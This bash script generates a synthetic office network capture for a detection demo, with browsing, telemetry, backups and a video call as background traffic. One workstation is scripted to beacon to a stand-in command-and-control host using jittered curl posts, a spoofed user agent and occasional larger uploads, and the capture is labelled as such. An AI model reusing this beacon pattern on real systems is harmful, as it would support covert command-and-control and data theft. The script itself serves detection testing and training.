#!/usr/bin/env bash
# A morning in a small office with one beaconing workstation in it: the capture of the demo.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-10T08:15:00Z
uc_start 1500 curl nginx-light rsync chrony ntpsec-ntpdig
uc_lan 10.20.30.1/24
for n in 11 12 13 14 15 16 17 18; do uc_host "ws$n" "10.20.30.$n"; done
uc_host files 10.20.30.5
uc_host build 10.20.30.6
uc_browse_sites
uc_name files.office.example 10.20.30.5
uc_site telemetry.deskvendor.example 203.0.113.10
uc_name connectivity.deskvendor.example 203.0.113.11
uc_site chat.teamfolio.example 192.0.2.81
uc_site packages.distromirror.example 198.51.100.60
uc_site api.metrics-relay.example 203.0.113.77
uc_name time.tickpool.example 192.0.2.123
uc_name meet.roundtable.example 198.51.100.150
uc_up

uc_bg wan python3 "$UC_TOOLS/call.py" serve 198.51.100.150 3478
uc_bg wan chronyd -d -x -u root "local stratum 2" "allow all" "bindaddress 192.0.2.123" "cmdport 0" "pidfile $UC_WORK/chronyd.pid"
mkdir "$UC_WORK/backup"; chmod 777 "$UC_WORK/backup"
printf 'use chroot = no\npid file = %s\n[backup]\npath = %s\nread only = no\nuid = 0\ngid = 0\n' "$UC_WORK/rsyncd.pid" "$UC_WORK/backup" > "$UC_WORK/rsyncd.conf"
uc_bg files rsync --daemon --no-detach --config "$UC_WORK/rsyncd.conf"
for n in 11 12 13 14 15 16 18; do mkdir "$UC_WORK/home$n"; for f in 1 2 3 4 5 6; do head -c $((60000 + n * f * 3000)) /dev/urandom > "$UC_WORK/home$n/doc-$f"; done; done

uc_plan <<'PY'
import os
from plan import Plan
plan = Plan(seed=2026)
rng, end, work = plan.rng, 4 * 3600 + 900, os.environ["UC_WORK"]
net = "10.20.30."
desks = [net + str(n) for n in range(11, 19)]
habits = {11: ["news", "mail", "docs"], 12: ["docs", "search", "shop"], 13: ["mail", "docs", "wiki"], 14: ["code", "wiki", "search"],
          15: ["news", "weather", "mail"], 16: ["code", "docs", "search"], 17: ["mail", "docs", "news", "search"], 18: ["shop", "news", "mail", "wiki"]}
curl = "curl -s -o /dev/null --cacert $UC_CA"
for n, sites in habits.items():
    host = net + str(n)
    arrives = rng.uniform(0, 1500)
    plan.browse(host, arrives, end - rng.uniform(0, 900), sites, pause_s=50, session_pages=4.5, break_s=1100)
    if n != 14:   # The vendor's agent is on most desks, and exact to the second.
        plan.every(host, arrives + 20, end, 300, 0.0005, f"head -c {rng.randrange(600, 700)} /dev/urandom | {curl} --data-binary @- https://telemetry.deskvendor.example/state")
    if n in (12, 15, 18):
        plan.every(host, arrives + 50, end, 600, 0.001, "curl -s -o /dev/null http://connectivity.deskvendor.example/generate_204")
    if n in (11, 13, 16, 17, 18):   # Chat clients look for messages.
        plan.every(host, arrives + 35, end, 240, 0.03, f"{curl} -H 'Cookie: s={n}7f' https://chat.teamfolio.example/task-{n % 12}")
    plan.every(host, arrives + 9, end, 2048, 0.02, "ntpdig time.tickpool.example")
    if n != 17:
        plan.add(4 * 3600 - 1500 + n * 60, host, f"rsync -rt {work}/home{n} rsync://10.20.30.5/backup/")
    for _ in range(2):  # A mail with something attached.
        plan.add(rng.uniform(arrives + 600, end - 900), host, f"head -c {rng.randrange(40000, 300000)} /dev/urandom | {curl} --data-binary @- https://mail.postwise.example/up/message")
for host in (net + "5", net + "6"):
    plan.every(host, 70, end, 1024, 0.02, "ntpdig time.tickpool.example")
    plan.add(5400, host, f"{curl} https://packages.distromirror.example/file.bin")
plan.every(net + "6", 200, end, 1800, 0.01, f"{curl} https://git.forgeyard.example/page-3.html https://git.forgeyard.example/part-7.bin")
plan.every(net + "6", 130, end, 300, 0.0005, f"head -c 640 /dev/urandom | {curl} --data-binary @- https://telemetry.deskvendor.example/state")
# A video call: name looked up like anything else, the media in a lane of its own, 20 packets a second each way.
plan.add(6000, net + "13", "getent ahostsv4 meet.roundtable.example")
plan.add(6001, net + "13>198.51.100.150", "python3 $UC_TOOLS/call.py call 198.51.100.150 3478 90 80", scale=4.0)
# The incident.
def check_in(number):
    remembered = "--resolve api.metrics-relay.example:443:203.0.113.77 " if number % 6 else ""
    sent = 240 if number % 31 else 3100
    return (f"head -c {sent} /dev/urandom | {curl} --http1.1 {remembered}-A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' "
            f"--data-binary @- https://api.metrics-relay.example/task-{number * 5 % 12 if number % 9 == 0 else 3}")
print(plan.every(net + "17", 610, end, 80, 0.25, check_in), "check-ins")
plan.write()
PY
helpers=(); for n in 11 12 13 14 15 16 17 18; do
  variant=; case $n in 12|15) variant="UC_CIPHERS=ECDHE+AESGCM:ECDHE+CHACHA20" ;; 18) variant="UC_TLS12=1" ;; esac
  helpers+=(--helper "10.20.30.$n" browser "env $variant python3 $UC_TOOLS/browser.py"); done
uc_drive "${helpers[@]}"
uc_finish "$(uc_versions curl nginx-light rsync chrony ntpsec-ntpdig dnsmasq-base tcpdump)" --bulk-bytes 72 <<'LABELS'
10.20.30.17 203.0.113.77:443 c2 beacon
LABELS
